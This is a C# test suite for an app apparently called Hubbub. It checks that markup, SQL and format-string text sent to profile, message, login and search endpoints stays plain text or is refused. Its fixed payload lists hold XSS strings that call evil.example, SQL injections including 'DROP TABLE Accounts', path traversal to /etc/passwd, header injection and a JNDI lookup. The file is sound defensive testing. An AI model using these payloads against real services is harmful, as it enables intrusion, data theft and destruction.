using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using Hubbub.Domain.Common;
using Hubbub.Testing;
using Hubbub.Web.Tests.Realtime;

namespace Hubbub.Web.Tests;

/// <summary>
/// Text that looks like markup, SQL or a format string stays plain text, wherever it goes in and comes out.
/// </summary>
public sealed class HostileTextTests(SharedPair pair) : IClassFixture<SharedPair>
{
    private const int Seed = 20261122;

    private static readonly string[] Markup =
    [
        "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example></script>",
        "<svg onload=alert(1)>", "<svg/onload=alert`1`>", "<img src=x onerror=alert(1)>",
        "<img src=x:x onerror=&#97;lert(1)>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>",
        "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
        "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
        "<!--<script>alert(1)//-->", "<math><mi xlink:href=javascript:alert(1)>", "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>", "<object data=javascript:alert(1)>",
        "<embed src=javascript:alert(1)>", "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
        "<style>@import'//evil.example';</style>", "<link rel=stylesheet href=//evil.example>",
        "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}", "<%= 7*7 %>",
        "\\u003cscript\\u003ealert(1)", "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<scr\u0000ipt>alert(1)</scr\u0000ipt>", "\u202Egpj.exe\u202C", "\uFEFF<script>alert(1)</script>",
        "]]><script>alert(1)</script>",
    ];

    private static readonly string[] Injections =
    [
        "' OR '1'='1", "' OR 1=1--", "'; DROP TABLE Accounts;--", "\" OR \"\"=\"", "') OR ('1'='1",
        "1; SELECT * FROM Sessions", "' UNION SELECT PasswordHash FROM Accounts--", "%", "_", "%%", "_%", "[a-z]",
        "[^a]", "\\%", "al%", "a_ice", "*", "?", "al*", "^al", ".*", "(?:a+)+$", "\\", "\\\\", "'", "''", "\"", "`",
        ";", "--", "/*", "*/", "0x1", "1e999", "-1", "NaN", "null", "undefined", "true", "{}", "[]", "{\"$gt\":\"\"}",
        "{\"$ne\":null}", "$where", "../../etc/passwd", "..\\..\\web.config", "/dev/null", "%00", "\u0000",
        "%0d%0aSet-Cookie:x=1", "\r\nX-Injected: 1", "%s%s%s%n", "{0}{1}", "${jndi:ldap://evil.example/a}",
        "!!python/object", "\uD83D\uDE00", "ß", "İ", "ﬀ", "\uFFFF", "\uFFFE", "\u202E", "😀😀", "a\u0301",
        "sort=passwordHash",
        "orderBy=Email desc", "id,(select 1)", "username asc; --",
    ];

    [Fact]
    [Trait("Abuse", "T-08")]
    public async Task Markup_is_stored_and_returned_as_the_text_it_is_or_refused()
    {
        Markup.Should().HaveCount(40);
        await using var bob = await pair.Bob.Connect();
        foreach (var text in Markup)
        {
            var isPlain = !text.Any(char.IsControl);
            using (var patched = await Patch(new { bio = text, displayName = text.Length > 50 ? text[..50] : text }))
            {
                await MustBeData(patched);
                patched.IsSuccessStatusCode.Should().Be(
                    isPlain && !text.Contains('\u202E', StringComparison.Ordinal), text);
                if (patched.IsSuccessStatusCode)
                {
                    using var seen = await pair.Bob.Http.GetAsync($"/api/v1/profiles/{pair.Alice.Wire()}");
                    (await MustBeData(seen)).Text("bio").Should().Be(text);
                }
            }

            using var sent = await pair.Alice.Http.PostAsJsonAsync(
                "/api/v1/messages", new { receiverId = pair.Bob.Wire(), message = text });
            var answer = await MustBeData(sent);
            sent.IsSuccessStatusCode.Should().Be(!text.Any(c => char.IsControl(c) && c != '\t'), text);
            if (sent.IsSuccessStatusCode)
            {
                using var history = await pair.Bob.Http.GetAsync(
                    $"/api/v1/conversations/{answer.Text("conversationId")}/messages?limit=1");
                (await MustBeData(history)).GetProperty("items")[0].Text("body").Should().Be(text);
                await bob.Next("receive_message", e => e.GetProperty("message").Text("body") == text);
            }

            using var signUp = await pair.Server.Http.PostAsJsonAsync(
                "/api/v1/auth/register",
                new { username = text, email = "someone@example.test", password = TestApp.Password });
            (await signUp.Refusal()).Should().Be((400, "validation_failed"), text);
            using var logIn = await pair.Server.Http.PostAsJsonAsync(
                "/api/v1/auth/login", new { login = "alice", password = TestApp.Password, deviceName = text });
            await MustBeData(logIn);
        }

        // Restores Alice's profile for the other tests.
        (await Patch(new { bio = "", displayName = "alice" })).Dispose();
    }

    [Fact]
    [Trait("Abuse", "T-36")]
    public async Task No_payload_in_a_search_filter_or_cursor_breaks_out_of_its_place()
    {
        var random = new Random(Seed);
        var payloads = Enumerable.Range(0, 200)
            .Select(i => i < Injections.Length ? Injections[i] : $"{Pick()}{Pick()}{(i % 3 == 0 ? "al" : Pick())}")
            .ToArray();
        var before = await pair.Server.State();
        foreach (var payload in payloads)
        {
            var text = Uri.EscapeDataString(payload);
            string[] places =
            [
                $"/api/v1/profiles?q={text}", $"/api/v1/profiles?q=al&cursor={text}",
                $"/api/v1/profiles?q=al&sort={text}",
                $"/api/v1/profiles/by-username/{text}", $"/api/v1/notifications?type={text}",
                $"/api/v1/notifications?isRead={text}", $"/api/v1/conversations?cursor={text}",
                $"/api/v1/presence?userIds={text}", $"/api/v1/sync?after={text}",
                $"/api/v1/conversations/{text}/messages",
            ];
            foreach (var place in places)
            {
                using var response = await pair.Alice.Http.GetAsync(place);
                var said = await response.Content.ReadAsStringAsync();
                ((int)response.StatusCode).Should().BeOneOf(
                    [200, 400, 404, 405], "seed {0}: {1} says {2}", Seed, place, said);
                response.Headers.Contains("X-Injected").Should().BeFalse();
                RefusalAssertions.MustSayNothingOfTheInside(
                    said.Replace(payload, string.Empty, StringComparison.Ordinal));
                said.Should().NotContain("example.test", place);
                if (place == places[0] && response.IsSuccessStatusCode)
                {
                    MustHaveWordsOf(payload, said, place);
                }
            }

            using var login = await pair.Server.Http.PostAsJsonAsync(
                "/api/v1/auth/login", new { login = payload, password = TestApp.Password });
            ((int)login.StatusCode).Should().BeOneOf([400, 401], payload);
        }

        (await pair.Server.State()).Should().Be(before);

        string Pick() => Injections[random.Next(Injections.Length)];
    }

    // Punctuation is not part of words, so the text between is searched separately.
    private static void MustHaveWordsOf(string payload, string said, string place)
    {
        foreach (var card in JsonDocument.Parse(said).RootElement.GetProperty("items").EnumerateArray())
        {
            var words = SearchWords.Of($"{card.Text("username")} {card.Text("displayName")}");
            SearchWords.Of(payload).Should().NotBeEmpty(place).And.OnlyContain(
                sought => words.Any(w => w.StartsWith(sought, StringComparison.Ordinal)), place);
        }
    }

    private static async Task<JsonElement> MustBeData(HttpResponseMessage response)
    {
        response.Content.Headers.ContentType!.MediaType
            .Should()
            .BeOneOf("application/json", "application/problem+json");
        (response.Content.Headers.ContentType.CharSet ?? "utf-8").Should().Be("utf-8");
        response.Headers.GetValues("X-Content-Type-Options").Should().Equal("nosniff");
        ((int)response.StatusCode).Should().BeLessThan(500);
        return JsonDocument.Parse(await response.Content.ReadAsStringAsync()).RootElement;
    }

    private async Task<HttpResponseMessage> Patch(object body)
    {
        using var content = new StringContent(JsonSerializer.Serialize(body), Encoding.UTF8, "application/json");
        return await pair.Alice.Http.PatchAsync("/api/v1/profiles/me", content);
    }
}
